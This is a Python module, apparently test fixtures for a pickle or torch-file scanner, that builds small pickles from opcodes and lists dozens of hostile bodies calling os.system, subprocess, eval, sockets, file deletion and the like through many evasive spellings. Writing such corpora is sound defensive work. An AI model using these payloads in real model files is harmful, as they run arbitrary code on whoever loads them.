"""Builders of small pickles and torch zip files: benign, broken and hostile.

Pickles are assembled from opcodes, so that every spelling can be made and nothing has to be run.
"""

from __future__ import annotations

import io
import struct
import sys
import types
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager

PROTO_2, PROTO_4, STOP, MARK = b"\x80\x02", b"\x80\x04", b".", b"("


# -- the assembler ---------------------------------------------------------------------------------


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    """BININT."""
    return b"J" + struct.pack("<i", value)


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL with both names pushed just before."""
    return text(module) + text(attribute) + b"\x93"


def tuple_of(*items: bytes) -> bytes:
    """MARK … TUPLE."""
    return MARK + b"".join(items) + b"t"


def call(target: bytes, *args: bytes) -> bytes:
    """REDUCE of a callable on the stack."""
    return target + tuple_of(*args) + b"R"


def call_name(dotted: str, *args: bytes) -> bytes:
    """REDUCE of `module.attribute`, split at the last dot."""
    return call(name(*dotted.rsplit(".", 1)), *args)


def dict_of(entries: Mapping[str, bytes]) -> bytes:
    """EMPTY_DICT and SETITEMS."""
    pairs = b"".join(text(key) + value for key, value in entries.items())
    return b"}(" + pairs + b"u"


def storage(key: str, numel: int, kind: str = "FloatStorage") -> bytes:
    """A persistent id of torch."""
    parts = (text("storage"), name("torch", kind), text(key), text("cpu"), number(numel))
    return tuple_of(*parts) + b"Q"


def tensor(
    key: str,
    shape: tuple[int, ...],
    stride: tuple[int, ...],
    *,
    numel: int,
    offset: int = 0,
    kind: str = "FloatStorage",
) -> bytes:
    """`torch._utils._rebuild_tensor_v2` over a storage."""
    return call_name(
        "torch._utils._rebuild_tensor_v2",
        storage(key, numel, kind),
        number(offset),
        tuple_of(*map(number, shape)),
        tuple_of(*map(number, stride)),
        b"\x89",
        call_name("collections.OrderedDict"),
    )


def pickled(body: bytes) -> bytes:
    """Protocol 2 around a body."""
    return PROTO_2 + body + STOP


# -- files -----------------------------------------------------------------------------------------


def torch_zip(
    pickle: bytes,
    storages: Mapping[str, bytes] | None = None,
    *,
    root: str = "archive",
    packing: int = zipfile.ZIP_STORED,
    more: Mapping[str, bytes] | None = None,
) -> bytes:
    """A torch zip file around a pickle and storages; `more` are further entries under the root."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as archive:
        archive.writestr(f"{root}/data.pkl", pickle)
        for key, data in (storages or {}).items():
            archive.writestr(f"{root}/data/{key}", data)
        archive.writestr(f"{root}/version", b"3\n")
        for entry, data in (more or {}).items():
            archive.writestr(f"{root}/{entry}", data)
    return target.getvalue()


@contextmanager
def foreign_classes(*dotted: str) -> Iterator[list[type]]:
    """Empty classes under the given names, importable as long as the block lasts.

    With them torch.save writes files that mention libraries which are not installed.
    """
    added: list[str] = []
    classes: list[type] = []
    for path in dotted:
        module, _, label = path.rpartition(".")
        parts = module.split(".")
        for end in range(1, len(parts) + 1):
            parent = ".".join(parts[:end])
            if parent not in sys.modules:
                sys.modules[parent] = types.ModuleType(parent)
                added.append(parent)
        made = type(label, (), {"__module__": module})
        setattr(sys.modules[module], label, made)
        classes.append(made)
    try:
        yield classes
    finally:
        for parent in added:
            del sys.modules[parent]


# -- the hostile corpus ----------------------------------------------------------------------------


def hostile_bodies(command: str) -> dict[str, bytes]:
    """Bodies (without PROTO and STOP) that would run `command` or reach where they must not.

    Each is a spelling of its own; the key says which.
    """
    shell = text(command)
    code = text(f"__import__('os').system({command!r})")
    system = name("os", "system")
    nested = pickled(call(system, shell))
    return {
        **_spellings(shell, system),
        **_shells(shell),
        **_evaluators(code, command),
        **_gadgets(shell, code, nested),
        **_openers(),
        **_libraries(shell, code),
    }


def _spellings(shell: bytes, system: bytes) -> dict[str, bytes]:
    arguments = tuple_of(shell)
    memoized = text("os") + b"q\x01" + text("system") + b"q\x02" + b"00"
    return {
        "GLOBAL and REDUCE": call(system, shell),
        "GLOBAL and REDUCE with TUPLE1": system + shell + b"\x85R",
        "STACK_GLOBAL": call(stack_name("os", "system"), shell),
        "STACK_GLOBAL from the memo": memoized + b"h\x01h\x02\x93" + arguments + b"R",
        "STACK_GLOBAL after DUP and POP": text("posix") + text("system") + b"20\x93" + arguments
        + b"R",
        "STACK_GLOBAL with a computed name": text("os")
        + call_name("operator.add", text("sys"), text("tem")) + b"\x93" + arguments + b"R",
        "STACK_GLOBAL with a joined name": text("os")
        + call(name("builtins", "str.join"), text(""), text("system")) + b"\x93" + arguments + b"R",
        "INST": MARK + shell + b"ios\nsystem\n",
        "OBJ": MARK + system + shell + b"o",
        "NEWOBJ": system + arguments + b"\x81",
        "NEWOBJ_EX": system + arguments + b"}\x92",
        "BUILD with a state": name("os", "system") + b")\x81}" + text("x") + shell + b"sb",
        "BUILD on a class": name("collections", "OrderedDict") + b"N"
        + dict_of({"__reduce__": system}) + b"\x86b",
        "SETITEM on a module's dict": name("collections", "OrderedDict") + text("x") + system
        + b"s",
        "EXT1": call(b"\x82\x01", shell),
        "EXT2": call(b"\x83\x01\x01", shell),
        "EXT4": call(b"\x84\x01\x00\x00\x00", shell),
        "a call of a call": call(
            call(name("builtins", "getattr"), name("os", "path"), shell), shell
        ),
        "a dotted name": call(name("torch.serialization", "os.system"), shell),
        "a dotted STACK_GLOBAL": call(stack_name("collections", "abc.sys.modules"), shell),
        "attributes of a harmless class": call(
            stack_name("collections", "OrderedDict.__init__.__globals__"), shell
        ),
        "inside a tuple that is thrown away": tuple_of(call(system, shell)) + b"0N",
        "as a key": b"}" + call(system, shell) + b"Ns",
        "as an argument of a harmless function": call_name(
            "collections.OrderedDict", MARK + tuple_of(text("a"), call(system, shell)) + b"l"
        ),
        "as the factory of a defaultdict": call_name("collections.defaultdict", system),
        "through _rebuild_from_type_v2": call_name(
            "torch._tensor._rebuild_from_type_v2", system, name("torch", "Tensor"),
            tuple_of(shell), b"}",
        ),
        "through copyreg": call_name("copyreg.__newobj__", system, shell),
    }  # fmt: skip


def _shells(shell: bytes) -> dict[str, bytes]:
    callables = """posix.system nt.system os.popen os.execvp os.spawnlp subprocess.Popen
    subprocess.run subprocess.check_output subprocess.getoutput commands.getoutput
    popen2.popen2 pty.spawn asyncio.create_subprocess_shell _posixsubprocess.fork_exec
    os.posix_spawn subprocess.call multiprocessing.popen_fork.Popen platform.os.system
    pexpect.run sh.bash paramiko.SSHClient _pyrepl.pager.pipe_pager"""
    return {dotted: call_name(dotted, shell) for dotted in callables.split()}


def _evaluators(code: bytes, command: str) -> dict[str, bytes]:
    callables = """builtins.eval builtins.exec builtins.compile builtins.__import__
    __builtin__.eval __builtin__.execfile __builtin__.apply runpy.run_path runpy._run_code
    importlib.import_module pdb.run bdb.Bdb.run timeit.timeit timeit.main profile.run
    cProfile.run cProfile.runctx trace.Trace doctest.debug_script code.interact
    code.InteractiveInterpreter codeop.compile_command types.CodeType types.FunctionType
    marshal.loads zipimport.zipimporter site.addsitedir atexit.register sys.settrace
    threading.Thread concurrent.futures.ThreadPoolExecutor
    idlelib.pyshell.ModifiedInterpreter.runcode lib2to3.pgen2.grammar.Grammar.loads
    ensurepip._run_pip pydoc.pipepager imp.load_source pkgutil.resolve_name
    unittest.mock._importer distutils.spawn.spawn test.support.script_helper.assert_python_ok
    builtins.breakpoint"""
    found = {dotted: call_name(dotted, code) for dotted in callables.split()}
    found["eval with latin-1 bytes"] = call(
        name("builtins", "eval"), call_name("_codecs.encode", code, text("latin1"))
    )
    found["eval by protocol 0"] = (
        f"c__builtin__\neval\n(V__import__('os').system('{command}')\ntR".encode()
    )
    return found


def _gadgets(shell: bytes, code: bytes, nested: bytes) -> dict[str, bytes]:
    return {
        "functools.partial": call(call_name("functools.partial", name("os", "system"), shell)),
        "functools.reduce": call_name("functools.reduce", name("os", "system"), shell),
        "operator.methodcaller": call(call_name("operator.methodcaller", text("system"), shell)),
        "operator.attrgetter": call(call_name("operator.attrgetter", text("system")), shell),
        "builtins.map": call_name("builtins.map", name("builtins", "eval"), MARK + code + b"l"),
        "itertools.starmap": call_name("itertools.starmap", name("os", "system"), b"]"),
        "getattr of a module": call_name("builtins.getattr", name("torch", "os"), text("system")),
        "pickle.loads of bytes": call_name("pickle.loads", raw(nested)),
        "_pickle.loads of bytes": call_name("_pickle.loads", raw(nested)),
        "a pickle in bytes": dict_of({"state": raw(b"padding" + nested)}),
        "a pickle in text": dict_of({"state": text("cos\nsystem\n(S'x'\ntR.")}),
        "a pickle in latin-1 text": call_name(
            "_codecs.encode", text(nested.decode("latin-1")), text("latin1")
        ),
        "torch's loader of bytes": call_name("torch.storage._load_from_bytes", raw(nested)),
        "sys.modules": name("sys", "modules") + text("os") + b"Ns",
        "gc": call_name("gc.get_objects"),
        "copyreg.add_extension": call_name("copyreg.add_extension", text("os"), text("system")),
        "copyreg.pickle": call_name("copyreg.pickle", name("builtins", "eval")),
        "codecs.decode": call_name("codecs.decode", code, text("zip")),
        "logging.config": call_name("logging.config.listen", number(9999)),
        "builtins.type": call_name("builtins.type", text("X"), b")", b"}"),
    }


def _openers() -> dict[str, bytes]:
    callables = """builtins.open io.open io.FileIO os.remove os.unlink os.putenv shutil.rmtree
    shutil.copyfile socket.create_connection socket.socket urllib.request.urlopen
    urllib2.urlopen http.client.HTTPConnection httplib.HTTPSConnection ftplib.FTP smtplib.SMTP
    webbrowser.open ctypes.CDLL tempfile.NamedTemporaryFile zipfile.ZipFile tarfile.open
    sqlite3.connect linecache.getlines fileinput.input glob.glob ssl.create_default_context
    requests.api.get httpx.get urllib3.PoolManager fsspec.open
    wsgiref.simple_server.make_server"""
    return {dotted: call_name(dotted, text("x")) for dotted in callables.split()}


def _libraries(shell: bytes, code: bytes) -> dict[str, bytes]:
    callables = """torch.load torch.hub.load torch.jit.load
    torch.utils.cpp_extension.load_inline torch.utils.model_zoo.load_url
    torch.distributed.rpc.internal._run_function torch.os.system torch.serialization.load
    torch.compile torch.package.PackageImporter.load_pickle numpy.load
    numpy.testing._private.utils.runstring numpy.f2py.crackfortran.getlincoef
    numpy.core.multiarray.fromfile numpy.lib.npyio.os.system pip.main pip._internal.main
    setuptools.sandbox.run_setup pandas.read_pickle pandas.eval joblib.load dill.loads
    cloudpickle.loads tensorflow.keras.models.load_model sympy.sympify IPython.start_ipython
    converters.pickles.unpickling.unpickle assetmgr.__main__.main registry.library.Library.open
    transformers.utils.os diffusers.utils.subprocess somebody.helpers.eval scipy.io.loadmat
    huggingface_hub.hf_hub_download"""
    found = {dotted: call_name(dotted, shell) for dotted in callables.split()}
    found["a class of a library with a revealing attribute"] = call(
        stack_name("mylib.models", "Model.__init__.__globals__"), code
    )
    return found
